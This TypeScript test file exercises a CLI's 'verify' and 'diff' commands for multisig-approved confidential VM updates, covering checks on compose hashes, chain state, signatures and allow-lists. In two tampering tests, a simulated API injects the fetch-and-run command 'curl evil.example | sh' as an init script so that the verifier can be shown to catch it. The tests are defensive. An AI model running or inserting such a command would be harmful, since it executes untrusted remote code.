import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Change } from '../../client/change.js';
import type { SimulatedCvm } from '../../simulator/simulatedCvm.js';
import { useRig } from '../rig/rig.js';
import { runCli } from '../rig/runCli.js';
import { keyOf, signed } from '../safe/people.js';

const rig = useRig();
let folder: string;

const composeFile = 'services:\n  web:\n    image: nginx:1.28\n';
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'countersign-verify-'));
  await writeFile(join(folder, 'compose.yml'), composeFile);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const cli = (args: readonly string[], environment: Readonly<Record<string, string>> = {}) =>
  runCli(args, { cwd: folder, environment });

const engine = (): Readonly<Record<string, string>> => ({
  TEMPORAL_ADDRESS: inject('temporalAddress'),
  COUNTERSIGN_TASK_QUEUE: rig.taskQueue,
});

interface Verified {
  readonly verified: boolean;
  readonly checks: readonly { readonly name: string; readonly outcome: string; readonly reason: string }[];
}

const names = ({ checks }: Verified, outcome: string): readonly string[] =>
  checks.filter((check) => check.outcome === outcome).map(({ name }) => name);

async function waiting(cvm: SimulatedCvm): Promise<Change> {
  const change = await rig.countersign.updateCvm(rig.request(cvm, { update: { dockerComposeFile: composeFile } }));
  await rig.until(change, 'awaitingRegistration');
  return change;
}

/** Writes what the engine exports, and answers the file's name with what is in it. */
async function exported(change: Change, alter: (proposal: Record<string, unknown>) => void = () => {}) {
  const { stdout, stderr, code } = await cli(['proposal', change.id, '--json'], engine());
  expect(code, stderr).toBe(0);
  const proposal = JSON.parse(stdout);
  alter(proposal);
  const file = join(folder, `${change.id}.json`);
  await writeFile(file, JSON.stringify(proposal));
  return { file, proposal };
}

/** What an approver runs who has the file and a node, and nothing else. */
async function verifyFile(file: string, ...more: string[]): Promise<Verified & { readonly code: number | null }> {
  const known = ['--compose', 'compose.yml', '--rpc-url', rig.cloud.anvil.rpcUrl];
  const { stdout, code, stderr } = await cli(['verify', '--file', file, ...known, ...more, '--json']);
  expect(stderr).toBe('');
  return { ...JSON.parse(stdout), code };
}

describe('an update that waits for a Safe', () => {
  it('is verified from its file and a node alone, every check made', async () => {
    const cvm = await rig.addCvm('safe');
    const change = await waiting(cvm);
    const { file } = await exported(change);
    const { code, ...result } = await verifyFile(file, '--contract', cvm.appId);
    expect(names(result, 'failed')).toEqual([]);
    expect(names(result, 'notCheckable')).toEqual(['preLaunchScript']);
    expect(names(result, 'passed')).toEqual([
      'composeFile',
      'base',
      'asked',
      'composeHash',
      'engineCheck',
      'expectation',
      'calls',
      'calldata',
      'contract',
      'safeTransaction',
      'batchFile',
      'chain',
      'code',
      'generation',
      'owner',
      'pendingOwner',
      'baseAllowed',
      'stillMissing',
      'ownerKind',
      'safeState',
      'safeTransactionOnChain',
    ]);
    expect(result.verified).toBe(true);
    expect(code).toBe(0);
  });

  it('is verified with the signatures that were collected for it, each of them', async () => {
    const change = await waiting(await rig.addCvm('safe'));
    const signature = await signed(rig, await change.status(), keyOf(rig, 0));
    await change.send('sign', { by: 'alice', signature });
    const { file, proposal } = await exported(change);
    const result = await verifyFile(file);
    expect(result.verified).toBe(true);
    expect(names(result, 'passed')).toEqual(expect.arrayContaining(['signatures', 'signaturesOnChain']));
    // Counted for another owner.
    proposal.safe.signatures[0].owner = proposal.safe.owners[1];
    await writeFile(file, JSON.stringify(proposal));
    expect(names(await verifyFile(file), 'failed')).toEqual(['signatures']);
  });

  it('is verified through the engine, too, as people read it', async () => {
    const change = await waiting(await rig.addCvm('safe'));
    const { stdout, code } = await cli(['verify', change.id, '-c', 'compose.yml'], {
      ...engine(),
      COUNTERSIGN_RPC_URL_31337: rig.cloud.anvil.rpcUrl,
    });
    expect(code, stdout).toBe(0);
    expect(stdout).toMatch(/^✓ {2}compose hash +0x[0-9a-f]{64} is the hash of the document$/m);
    expect(stdout).toMatch(/^– {2}pre-launch script +not compared with yours/m);
    expect(stdout).toMatch(/^Verified: 21 checks passed, 1 could not be made/m);
  });
});

describe('a lie', () => {
  it('of the API, which plans another document than was asked for, is found by its hash', async () => {
    const cvm = await rig.addCvm('safe');
    cvm.quirks = { serverAddedFields: { init_script: 'curl evil.example | sh' } };
    const { file } = await exported(await waiting(cvm));
    const result = await verifyFile(file);
    expect(result).toMatchObject({ verified: false, code: 8 });
    expect(names(result, 'failed')).toEqual(['composeHash']);
  });

  it('of the API, which shows another document than the CVM runs, is found by the base', async () => {
    const cvm = await rig.addCvm('safe');
    const set = { init_script: 'curl evil.example | sh' };
    const what = { kind: 'alterBody', set } as const;
    rig.cloud.simulator.faults.add({ endpoint: 'getComposeFile', cvm: cvm.vmUuid, times: null, what });
    const { file } = await exported(await waiting(cvm));
    const result = await verifyFile(file);
    expect(result).toMatchObject({ verified: false, code: 8 });
    expect(names(result, 'failed')).toEqual(['base', 'composeHash']);
  });

  it('about the compose file that the approver knows is found by his own', async () => {
    const change = await rig.countersign.updateCvm(rig.request(await rig.addCvm('safe')));
    await rig.until(change, 'awaitingRegistration');
    const { file } = await exported(change);
    const result = await verifyFile(file);
    expect(result).toMatchObject({ verified: false, code: 8 });
    expect(names(result, 'failed')).toEqual(['composeFile']);
  });

  it('of the engine about the chain is found by the node, field by field', async () => {
    const cvm = await rig.addCvm('safe');
    const { file, proposal } = await exported(await waiting(cvm));
    const other = `0x${'9'.repeat(40)}`;
    const { safe } = proposal;
    const lies: readonly (readonly [expected: readonly string[], lie: object])[] = [
      [['owner', 'ownerKind'], { owner: other }],
      [['pendingOwner'], { pendingOwner: other }],
      [['ownerKind'], { registrar: 'ownerKey' }],
      [['safeState'], { safe: { ...safe, threshold: 1 } }],
      [['safeState'], { safe: { ...safe, version: '1.3.0' } }],
      [['safeState'], { safe: { ...safe, owners: [other, ...safe.owners.slice(1)] } }],
      [['baseAllowed', 'base'], { base: { ...proposal.base, composeHash: `0x${'7'.repeat(64)}` } }],
    ];
    for (const [expected, lie] of lies) {
      await writeFile(file, JSON.stringify({ ...proposal, ...lie }));
      const result = await verifyFile(file);
      expect(result, JSON.stringify(lie)).toMatchObject({ verified: false, code: 8 });
      expect(names(result, 'failed').toSorted(), JSON.stringify(lie)).toEqual(expected.toSorted());
    }
  });

  it('is not needed: what stands on chain already is not to be signed', async () => {
    const change = await waiting(await rig.addCvm('safe'));
    const { file } = await exported(change);
    await change.send('pause', { by: 'test' });
    await rig.signAndExecute(await change.status());
    const result = await verifyFile(file);
    expect(result).toMatchObject({ verified: false, code: 8 });
    expect(names(result, 'failed')).toEqual(['stillMissing', 'safeState']);
  });
});

describe('countersign verify', () => {
  it('says what is no exported proposal, and asks nobody', async () => {
    await writeFile(join(folder, 'other.json'), '{"format":"something"}');
    const wrong = await cli(['verify', '--file', 'other.json', '--json']);
    expect(wrong.code).toBe(2);
    expect(JSON.parse(wrong.stdout).error).toMatchObject({ type: 'InvalidInput', effect: 'none' });
    expect((await cli(['verify', '--file', 'compose.yml'])).stderr).toContain('is not JSON');
    expect((await cli(['verify'])).code).toBe(2);
    expect((await cli(['verify', 'x', '--file', 'other.json'])).code).toBe(2);
  });

  it('counts what cannot be checked as failed where that is asked for', async () => {
    const { file } = await exported(await waiting(await rig.addCvm('safe')));
    expect(await verifyFile(file, '--strict')).toMatchObject({ verified: false, code: 8 });
  });
});

describe('countersign diff', () => {
  it('shows an update before and after, with the hash of the base', async () => {
    const cvm = await rig.addCvm('safe');
    const base = cvm.composeHash;
    const update = { dockerComposeFile: composeFile, allowedEnvs: ['TOKEN'], vcpu: 4 };
    const change = await rig.countersign.updateCvm(rig.request(cvm, { update }));
    const { composeHash } = await rig.until(change, 'awaitingRegistration');
    const { stdout, code, stderr } = await cli(['diff', change.id], engine());
    expect(code, stderr).toBe(0);
    expect(stdout).toContain(`base          ${base}`);
    expect(stdout).toContain(`compose hash  ${composeHash}`);
    expect(stdout).toContain('hash check    matched');
    expect(stdout).toContain('images: nginx:1.27 → nginx:1.28');
    expect(stdout).toContain('allowed envs: +TOKEN');
    expect(stdout).toMatch(/vCPUs: \d+ → 4/);
    expect(stdout).toMatch(/^@@ -1,4 \+1,3 @@$/m);
    expect(stdout).toMatch(/^- {4}image: nginx:1\.27$/m);
    expect(stdout).toMatch(/^\+ {4}image: nginx:1\.28$/m);
  });

  it('shows a new CVM, all of it new, and names only of its environment', async () => {
    const name = rig.name();
    const compose = { dockerComposeFile: composeFile };
    const { requestedBy } = rig.request(await rig.addCvm('none'));
    const change = await rig.countersign.provisionCvm({
      name,
      compose: { ...compose, allowedEnvs: ['TOKEN'] },
      kms: 'ethereum',
      owner: rig.cloud.safe.address,
      requestedBy,
      policy: { finality: 'latest' },
    });
    expect(await rig.until(change, 'awaitingRegistration')).toMatchObject({ hashCheck: 'matched' });
    const { stdout } = await cli(['diff', change.id, '--json'], engine());
    const shown = JSON.parse(stdout);
    expect(shown).toMatchObject({ kind: 'provision', base: null, hashCheck: 'matched' });
    expect(shown.changes).toEqual(expect.arrayContaining(['compose file: new (3 lines)', 'allowed envs: +TOKEN']));
    const { file } = await exported(change);
    expect(names(await verifyFile(file), 'failed')).toEqual([]);
  });

  it('shows what a replica copies, and which entries of allow-lists change', async () => {
    const cvm = await rig.addCvm('safe');
    const node = rig.cloud.simulator.nodes.at(-1);
    const replica = await rig.countersign.replicateCvm({
      cvmId: cvm.vmUuid,
      ...(node && { node: node.id }),
      requestedBy: 'test',
    });
    await rig.until(replica, 'awaitingRegistration');
    const shown = (await cli(['diff', replica.id], engine())).stdout;
    expect(shown).toContain(`copy of CVM ${cvm.vmUuid}`);
    expect(shown).toContain('environment: that of the source');
    const ofReplica = await exported(replica);
    expect(names(await verifyFile(ofReplica.file), 'failed')).toEqual(['composeFile']);

    const steps = [{ action: 'setAllowAnyDevice' as const, allowed: true }];
    const list = await rig.countersign.changeAllowlist({ appId: cvm.appId, steps, requestedBy: 'test' });
    await rig.until(list, 'awaitingRegistration');
    expect((await cli(['diff', list.id], engine())).stdout).toContain('any device allowed');
    expect(names(await verifyFile((await exported(list)).file), 'failed')).toEqual([]);
  });
});
